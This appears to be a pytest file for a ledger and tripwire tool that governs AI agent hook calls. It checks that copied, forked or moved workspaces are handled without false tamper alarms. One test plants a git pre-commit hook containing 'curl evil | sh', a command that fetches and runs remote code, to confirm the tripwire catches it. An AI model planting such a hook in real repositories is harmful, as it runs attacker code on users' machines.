"""A workspace copied with its ledger (``cp -a``, ``rsync -a``, a tar round trip, a second git
worktree given the same ``.orchestration/``) is recognised as a copy and never disturbs the
original.

Everything ledger keeps outside a workspace (the tripwire's seal, the stored checkpoints, the
trust pins, published evidence) is keyed by ledger id, which a copy shares. One hook call in a
copy used to seal its head as the original's, and the original then halted ("the ledger ends at
seq 27, before the sealed head (seq 32)"). Now each ledger id has one home, bound outside the
workspace: a copy is told so on its first hook call or command, writes nothing under the
copied id, and ``ledger init --fork`` gives it a ledger of its own whose genesis names the
copied ledger and its head.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger import InputError, Ledger, init_workspace, run_hook
from ledger._doctor import run_checks
from ledger._evidence.anchors import CheckpointStore, ledger_home
from ledger._hooks.tripwire import Entry, Seal, rerooted

from ._support import Workspace, claude_payload, make_workspace, run_cli

AUTH = "src/auth/login.ts"
Copier = Callable[[Path, Path], None]


def _git(root: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@x", *args],
        check=True,
        capture_output=True,
    )


def _cp_a(source: Path, target: Path) -> None:
    subprocess.run(["cp", "-a", str(source), str(target)], check=True)


def _rsync_a(source: Path, target: Path) -> None:
    if shutil.which("rsync") is None:
        if os.environ.get("LEDGER_REQUIRE_TOOLS") == "1":  # .ci/run installs it: never skipped
            pytest.fail("rsync is not installed (.ci/run installs it with apt-get)")
        pytest.skip("rsync is not installed")
    subprocess.run(["rsync", "-a", f"{source}/", f"{target}/"], check=True)


def _tar_round_trip(source: Path, target: Path) -> None:
    archive = source.parent / "ws.tar"
    subprocess.run(["tar", "-cf", str(archive), "-C", str(source), "."], check=True)
    target.mkdir()
    subprocess.run(["tar", "-xpf", str(archive), "-C", str(target)], check=True)


def _second_worktree(source: Path, target: Path) -> None:
    # The ledger is git-ignored: a new worktree has none until someone copies it over.
    _git(source, "worktree", "add", "-q", "--detach", str(target))
    shutil.copytree(source / ".orchestration", target / ".orchestration", dirs_exist_ok=True)


COPIERS: dict[str, Copier] = {
    "cp -a": _cp_a,
    "rsync -a": _rsync_a,
    "tar round trip": _tar_round_trip,
    "second git worktree": _second_worktree,
}


@pytest.fixture
def original(tmp_path: Path) -> Workspace:
    ws = make_workspace(tmp_path)
    _git(ws.root, "init", "-q")
    ws.write(AUTH, "export const login = 1;\n")
    ws.write(".orchestration/.gitignore", "agent_trace.jsonl\ndisclosures.jsonl\n.cache/\n")
    _git(ws.root, "add", "-A")
    _git(ws.root, "commit", "-q", "-m", "start")
    return ws


def hook(ws: Workspace, tool: str = "Read", n: int = 0) -> dict[str, object]:
    """One real hook call (run_hook: what `ledger hook claude` runs), its answer parsed."""
    payload = claude_payload(
        "PreToolUse",
        ws,
        "s1",
        tool_name=tool,
        tool_input={"file_path": str(ws.path(AUTH))},
        tool_use_id=f"toolu_01{tool}{n:04d}",
    )
    answer = run_hook("claude", json.dumps(payload).encode(), environ=ws.env)
    out = json.loads(answer.stdout)
    return dict(out.get("hookSpecificOutput") or {})


def state_files(ws: Workspace) -> dict[str, bytes]:
    """Everything ledger keeps for this user outside the workspaces."""
    base = ws.home
    return {
        str(p.relative_to(base)): p.read_bytes()
        for p in sorted(base.rglob("*"))
        if p.is_file() and "homes" not in p.parts  # the home binding is read, never moved
    }


def copy_of(original: Workspace, how: str) -> Workspace:
    target = original.root.parent / "copy"
    COPIERS[how](original.root, target)
    return Workspace(target, original.home)


def use(ws: Workspace, calls: int) -> None:
    for n in range(calls):
        assert hook(ws, n=n).get("permissionDecision") != "deny"


@pytest.mark.parametrize("how", COPIERS)
def test_hook_calls_in_a_copy_never_halt_the_original(original: Workspace, how: str) -> None:
    use(original, 5)  # armed and sealed, as a workspace in use is
    copy = copy_of(original, how)
    kept = state_files(original), original.ledger_bytes(), copy.ledger_bytes()
    for n in range(5):
        answer = hook(copy, n=100 + n)
        assert answer["permissionDecision"] == "deny"
        reason = str(answer["permissionDecisionReason"])
        assert f"is a copy of {os.path.realpath(original.root)}" in reason
        assert "`ledger init --fork`" in reason
    # Nothing the original relies on moved: its seal, checkpoints, pins, and both ledgers.
    assert (state_files(original), original.ledger_bytes(), copy.ledger_bytes()) == kept
    use(original, 5)
    assert not [r for r in original.records() if r.kind == "governance.tamper"]
    assert Ledger.open(original.root, environ=original.env).verify(jobs=1).ok


def test_the_copys_message_names_no_file_and_no_missing_seq(original: Workspace) -> None:
    use(original, 3)
    copy = copy_of(original, "cp -a")
    reason = str(hook(copy)["permissionDecisionReason"])
    # It used to say "seq None: <copy>/.git/config was added; <original>/.git/config was
    # removed" -- a file that was never removed, and a record that did not exist.
    assert "removed" not in reason
    assert "seq None" not in reason
    assert ".git/config" not in reason


def test_the_copy_says_so_until_forked_then_both_work_on_their_own(original: Workspace) -> None:
    use(original, 4)
    copy = copy_of(original, "cp -a")
    copied = Ledger.open(copy.root, environ=copy.env)
    copied_id, head = copied.ledger_id, copied.tail(1)[0]
    assert hook(copy)["permissionDecision"] == "deny"

    report = init_workspace(copy.root, environ=copy.env, fork=True)

    forked = Ledger.open(copy.root, environ=copy.env)
    genesis = next(forked.records())
    assert forked.ledger_id != copied_id
    assert genesis.key != head.key  # a key of its own
    assert genesis.body["forked_from"] == {
        "hash": head.hash,
        "home": os.path.realpath(original.root),
        "ledger_id": copied_id,
        "seq": head.seq,
    }
    assert report.forked_to is not None
    kept = copy.root / report.forked_to
    assert kept.read_bytes().splitlines()[-1] == head.line  # the copied ledger, unchanged
    assert ledger_home(forked.ledger_id, copy.env) == os.path.realpath(copy.root)
    assert ledger_home(copied_id, copy.env) == os.path.realpath(original.root)
    for n in range(20):  # interleaved, as two terminals would
        assert hook(copy, n=200 + n).get("permissionDecision") != "deny"
        assert hook(original, n=200 + n).get("permissionDecision") != "deny"
    for ws in (original, copy):
        assert not [r for r in ws.records() if r.kind == "governance.tamper"]
        assert Ledger.open(ws.root, environ=ws.env).verify(jobs=1).ok
    assert Ledger.open(original.root, environ=original.env).ledger_id == copied_id


def test_fork_where_nothing_was_copied_is_refused(original: Workspace) -> None:
    use(original, 2)
    before = original.ledger_bytes()
    with pytest.raises(InputError, match="not a copy"):
        init_workspace(original.root, environ=original.env, fork=True)
    done = run_cli(["init", "--fork", "--root", str(original.root)], original.proc_env)
    assert done.returncode == 3
    assert b"not a copy" in done.stderr
    assert b"Traceback" not in done.stderr
    assert original.ledger_bytes() == before


def test_verify_and_doctor_in_a_copy_say_so(original: Workspace, tmp_path: Path) -> None:
    env = {**original.env, "LEDGER_CHECKPOINT_EVERY": "4"}
    for n in range(6):
        payload = claude_payload(
            "PreToolUse",
            original,
            "s1",
            tool_name="Read",
            tool_input={"file_path": str(original.path(AUTH))},
            tool_use_id=f"toolu_01ck{n:04d}",
        )
        run_hook("claude", json.dumps(payload).encode(), environ=env)
    copy = copy_of(original, "cp -a")
    for n in range(6):  # the original checkpoints past what the copy holds
        payload = claude_payload(
            "PreToolUse",
            original,
            "s1",
            tool_name="Read",
            tool_input={"file_path": str(original.path(AUTH))},
            tool_use_id=f"toolu_01ck{100 + n:04d}",
        )
        run_hook("claude", json.dumps(payload).encode(), environ=env)
    copied = Ledger.open(copy.root, environ=copy.env)
    stored = CheckpointStore.for_ledger(copied.ledger_id, copy.env).latest()
    assert stored is not None
    assert stored.size > copied.tail(1)[0].seq + 1  # a checkpoint the copy does not reach
    report = copied.verify(jobs=1)
    assert report.ok, report.problems  # the copy's records are intact: no truncation
    assert any("is a copy of" in note and "ledger init --fork" in note for note in report.notes)
    checks = {c.name: c for c in run_checks(copy.root, environ=copy.env, home=tmp_path)}
    assert checks["workspace"].status == "fail"
    assert "ledger init --fork" in str(checks["workspace"].fix)
    assert checks["hooks.yaml"].status == "ok"
    home_checks = {c.name: c for c in run_checks(original.root, environ=env, home=tmp_path)}
    assert home_checks["workspace"].status == "ok"
    assert home_checks["ledger"].status == "ok"


def test_a_copy_cannot_vouch_for_a_key_in_the_originals_trust_root(original: Workspace) -> None:
    use(original, 1)
    copy = copy_of(original, "cp -a")
    done = run_cli(["key", "pin", "--root", str(copy.root)], copy.proc_env)
    assert done.returncode == 2, done.stderr
    assert b"is a copy of" in done.stderr


@pytest.mark.parametrize("how", ["mv", "copied, then the original deleted"])
def test_a_moved_workspace_is_no_copy_and_no_tampering(original: Workspace, how: str) -> None:
    use(original, 3)
    moved = Workspace(original.root.parent / "moved", original.home)
    if how == "mv":
        original.root.rename(moved.root)
    else:
        _cp_a(original.root, moved.root)
        shutil.rmtree(original.root)
    use(moved, 3)  # its seal names the old paths: they are read as the new ones
    assert not [r for r in moved.records() if r.kind == "governance.tamper"]
    ledger = Ledger.open(moved.root, environ=moved.env)
    assert ledger_home(ledger.ledger_id, moved.env) == str(moved.root.resolve())
    assert ledger.verify(jobs=1).ok


def test_a_file_planted_in_a_moved_workspace_is_still_caught(original: Workspace) -> None:
    use(original, 3)
    moved = Workspace(original.root.parent / "moved", original.home)
    original.root.rename(moved.root)
    moved.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
    answer = hook(moved, n=60)
    assert answer["permissionDecision"] == "deny"
    assert "pre-commit was added" in str(answer["permissionDecisionReason"])


_NAME = st.text("abc.-_", min_size=1, max_size=6).filter(lambda n: n not in (".", ".."))
_RELATIVE = st.lists(_NAME, min_size=1, max_size=3).map("/".join)


@given(
    inside=st.sets(_RELATIVE, max_size=6),
    outside=st.sets(_RELATIVE, max_size=4),
    legacy=st.booleans(),
)
def test_a_seal_moved_renames_only_the_workspaces_files_and_moves_back(
    inside: set[str], outside: set[str], legacy: bool
) -> None:
    entry = Entry("strict", 1, 2, 3, "d")
    old, new = "/w/app", "/w/app2"  # the new root starts with the old one's text
    files = {f"{old}/.orchestration/active_intents.yaml": entry._replace(rule="config")}
    files.update({f"{old}/{p}": entry for p in inside})
    files.update({f"/home/u/{p}": entry for p in outside})
    files.update({f"/w/app-other/{p}": entry for p in outside})  # a sibling sharing its prefix
    sealed = Seal(files, 3, "h", "v", None if legacy else old)
    moved = rerooted(sealed, new)
    assert moved.root == new
    assert set(moved.files) == {
        f"{new}/{p[len(old) + 1 :]}" if p.startswith(f"{old}/") else p for p in files
    }
    for base in ("/home/u/", "/w/app-other/"):
        assert {p for p in moved.files if p.startswith(base)} == {base + p for p in outside}
    assert rerooted(moved, old).files == files
    assert rerooted(sealed, old) == sealed  # not moved: unchanged


@pytest.mark.parametrize("seal_form", ["with its root", "older, without one"])
def test_a_copy_of_a_ledger_from_before_homes_whose_hook_runs_first_is_still_the_copy(
    original: Workspace, seal_form: str
) -> None:
    """Before homes were kept, the first workspace to ask became the home: a copy whose hook
    ran first took it, and the original was told it was the copy. The tripwire's seal (written
    under the per-user secret, in the original) names the original."""
    use(original, 3)
    ledger_id = Ledger.open(original.root, environ=original.env).ledger_id
    homes = original.home / "state" / "homes"
    for bound in homes.glob("*.json"):
        bound.unlink()  # as a ledger made before homes were kept
    if seal_form != "with its root":
        from ledger._hooks.tripwire import TripwireStore  # noqa: PLC0415

        store = TripwireStore(ledger_id, original.env)
        sealed = store.load()
        assert not isinstance(sealed, str)
        assert sealed is not None
        assert store.save(sealed._replace(root=None))
    copy = copy_of(original, "cp -a")
    answer = hook(copy)
    assert answer["permissionDecision"] == "deny"
    assert f"is a copy of {os.path.realpath(original.root)}" in str(
        answer["permissionDecisionReason"]
    )
    use(original, 3)
    assert not [r for r in original.records() if r.kind == "governance.tamper"]
    assert Ledger.open(original.root, environ=original.env).verify(jobs=1).ok
